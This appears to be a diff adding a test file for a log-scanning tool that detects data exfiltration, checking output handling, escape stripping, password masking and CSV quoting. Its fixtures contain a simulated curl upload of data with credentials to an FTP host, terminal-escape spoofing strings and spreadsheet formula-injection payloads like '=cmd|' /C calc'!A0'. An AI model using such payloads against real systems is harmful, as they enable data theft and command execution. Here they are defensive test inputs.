@@ -1,0 +1,164 @@
+"""Where output goes: whole or not at all, quiet on a closed pipe, safe for terminals and sheets."""
+import csv
+import datetime
+import io
+import os
+import subprocess
+
+import harness
+from harness import check, has, lacks, run, same, test, write
+from input_test import finding_log, quiet_log
+from story import Story
+
+
+def files():
+    return sorted(p.name for p in harness.WORK.iterdir())
+
+
+@test("-o: the same bytes as stdout, nothing on stdout, nothing left beside")
+def _():
+    write("audit.log", finding_log())
+    result = run("scan", "-o", "out.txt", "audit.log", code=1)
+    check(result.out == "" and result.err == "", "silent", result)
+    same((harness.WORK / "out.txt").read_text(), run("scan", "audit.log").out, "file")
+    check(files() == ["audit.log", "out.txt"], "left beside", files())
+    same(run("scan", "-o", "-", "audit.log").out, run("scan", "audit.log").out, "-")
+
+
+@test("-o: strftime patterns, UTC")
+def _():
+    before = datetime.datetime.now(datetime.timezone.utc)
+    run("scan", "-o", "day-%Y-%m-%d.txt", write("audit.log", finding_log()), code=1,
+        env={"TZ": "Pacific/Kiritimati"})
+    after = datetime.datetime.now(datetime.timezone.utc)
+    check({f"day-{t:%Y-%m-%d}.txt" for t in (before, after)} & set(files()), "name", files())
+
+
+@test("-o: not at all after a mistake in the rules, the old file stays")
+def _():
+    write("out.txt", "old")
+    write("own.conf", "[role default]\nlimit = x\n")
+    run("scan", "--rules", "own.conf", "-o", "out.txt", write("audit.log", finding_log()), code=2)
+    check((harness.WORK / "out.txt").read_text() == "old", "old")
+    check(files() == ["audit.log", "out.txt", "own.conf"], "left beside", files())
+
+
+@test("-o: cannot be written: exit 2 before a log is read")
+def _():
+    result = run("scan", "-o", "no/such/folder.txt", "gone.log", code=2)
+    has(result.err, "no/such/folder.txt: cannot be written (No such file or directory)")
+    lacks(result.err, "gone.log")
+    has(run("scan", "-o", harness.WORK, code=2).err, "is a folder")
+
+
+@test("-o: never over one of the logs, by whatever name")
+def _():
+    log = write("audit.log", finding_log())
+    os.symlink("audit.log", harness.WORK / "link")
+    for name in ("audit.log", "./audit.log", "link"):
+        for command in (["scan"], ["transfers"], ["events"], ["coverage"], ["explain", "a"]):
+            has(run(*command, "-o", name, "audit.log", code=2).err, "is one of the logs")
+    same(log.read_text(), finding_log(), "the log")
+
+
+@test("-o: a pipe or device is written to, not replaced, a link is followed")
+def _():
+    write("audit.log", quiet_log())
+    os.mkfifo(harness.WORK / "fifo")
+    with subprocess.Popen(["cat", harness.WORK / "fifo"], stdout=subprocess.PIPE) as reader:
+        run("scan", "-o", "fifo", "audit.log", code=0)
+        same(reader.stdout.read().decode(), run("scan", "audit.log").out, "fifo")
+    write("real.txt", "old")
+    os.symlink("real.txt", harness.WORK / "link.txt")
+    run("scan", "-o", "link.txt", "audit.log", code=0)
+    check((harness.WORK / "link.txt").is_symlink(), "still a link")
+    has((harness.WORK / "real.txt").read_text(), "No findings")
+
+
+@test("a full disk: exit 2 and a reason")
+def _():
+    write("audit.log", finding_log())
+    has(run("scan", "-o", "/dev/full", "audit.log", code=2).err, "No space left on device")
+    done = subprocess.run(f"{harness.BINARY} events audit.log > /dev/full", shell=True,
+                          capture_output=True, cwd=harness.WORK)
+    check(done.returncode == 2, "exit 2", done)
+    has(done.stderr.decode(), "standard output: cannot be written (No space left on device)")
+
+
+@test("a closed pipe is no error and makes no noise")
+def _():
+    write("audit.log", finding_log() * 200)
+    for command in ("events", "scan", "transfers"):
+        done = subprocess.run(
+            ["bash", "-c", f'"$0" {command} audit.log | head -1 > /dev/null; '
+             'echo "${PIPESTATUS[0]}"', harness.BINARY], capture_output=True, cwd=harness.WORK)
+        check(done.stderr.replace(b"auexfil: ", b"") == b"" or b"pipe" not in done.stderr.lower(),
+              "noise", done)
+        check(done.stdout.strip() in (b"0", b"1"), "exit", done)
+
+
+@test("a closed stderr does no harm")
+def _():
+    done = subprocess.run(f"{harness.BINARY} scan gone 2>&-", shell=True, capture_output=True,
+                          cwd=harness.WORK)
+    check(done.returncode == 3, "exit 3", done)
+    done = subprocess.run(f"{harness.BINARY} scan --no-such 2>&-", shell=True, capture_output=True,
+                          cwd=harness.WORK)
+    check(done.returncode == 2, "exit 2", done)
+
+
+def hostile_log():
+    """argv, comm and cwd that want to do something to whoever reads the report."""
+    story = Story()
+    argv = ["curl", "-T", "a\x1b]0;owned\x07\x1b[2J\r\nHIGH fake\u202e\u009b31m", "-u",
+            "me:Sw0rdfish", "ftp://bob:hunter2@203.0.113.9/u"]
+    shell = story.cron_job("curl -u me:Sw0rdfish ftp://bob:hunter2@203.0.113.9/u\x1b[31m")
+    curl = shell.fork(702).exec("/usr/bin/curl", *argv, cwd="/tmp/\x1b[1m")
+    curl.upload(5, "203.0.113.9", 21, 150_000_000)
+    story.chatter()
+    return story.text()
+
+
+@test("terminal escapes of a log never reach the output, in no command and no format")
+def _():
+    write("audit.log", hostile_log())
+    scan = run("scan", "audit.log", code=1)
+    id = run("transfers", "audit.log").rows()[0]["id"]
+    for command in (["scan"], ["scan", "-v"], ["scan", "--format", "csv"],
+                    ["scan", "--format", "jsonl"], ["transfers"], ["transfers", "--format", "table"],
+                    ["transfers", "--format", "csv"], ["events"], ["coverage"], ["explain", id]):
+        result = run(*command, "audit.log")
+        for bad in ("\x1b", "\x07", "\u202e", "\u009b"):
+            lacks(result.out + result.err, bad)
+        lacks(result.out, "\nHIGH fake")
+    has(scan.out, "\\x1b")
+
+
+@test("passwords of command lines are masked in every output, --no-mask shows them")
+def _():
+    write("audit.log", hostile_log())
+    id = run("transfers", "audit.log").rows()[0]["id"]
+    for command in (["scan", "-v"], ["scan", "--format", "csv"], ["scan", "--format", "jsonl"],
+                    ["transfers"], ["transfers", "--format", "table"],
+                    ["transfers", "--format", "csv"], ["explain", id]):
+        result = run(*command, "audit.log")
+        has(result.out, "****")
+        lacks(result.out + result.err, "Sw0rdfish", "hunter2", "Sw0rdfish".encode().hex().upper(),
+              "hunter2".encode().hex().upper())
+        has(run(*command, "--no-mask", "audit.log").out, "hunter2")
+
+
+@test("csv: header always, RFC 4180, cells that a spreadsheet would run are quoted")
+def _():
+    header = run("scan", "--format", "csv", write("audit.log", quiet_log()), code=0).raw
+    check(header.count(b"\r\n") == 1 and header.endswith(b"technique\r\n"), "header", header)
+    story = Story()
+    shell = story.cron_job("=cmd|' /C calc'!A0")
+    shell.fork(702).exec("/usr/bin/curl", "=HYPERLINK(\"x\"),\n", "-T", "f").upload(
+        5, "203.0.113.9", 21, 150_000_000)
+    out = run("scan", "--format", "csv", write("audit.log", story.text()), code=1).out
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    check(len(rows) == 1 and rows[0]["address"] == "203.0.113.9", "one row", out)
+    for row in rows:
+        for cell in row.values():
+            check(not cell or cell[0] not in "=+-@\t\r", "a formula", out)
